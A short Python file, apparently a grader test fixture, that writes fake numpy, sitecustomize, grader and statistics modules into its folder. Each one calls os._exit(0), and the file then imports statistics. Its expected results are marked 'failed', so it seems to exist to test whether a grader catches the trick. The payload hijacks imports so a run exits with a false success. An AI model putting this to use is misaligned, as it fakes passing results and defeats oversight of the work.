"""Write modules into its folder that Python would find before the real ones."""

import contextlib
import importlib
import os
import sys

EXPECT = {"twice": "failed", "agrees": "failed"}

for name in ("numpy.py", "sitecustomize.py", "grader.py", "statistics.py"):
    with contextlib.suppress(OSError), open(name, "w") as file:
        file.write("import os; os._exit(0)")
importlib.invalidate_caches()
import statistics


def double(x):
    return x + statistics.mean([1.0])
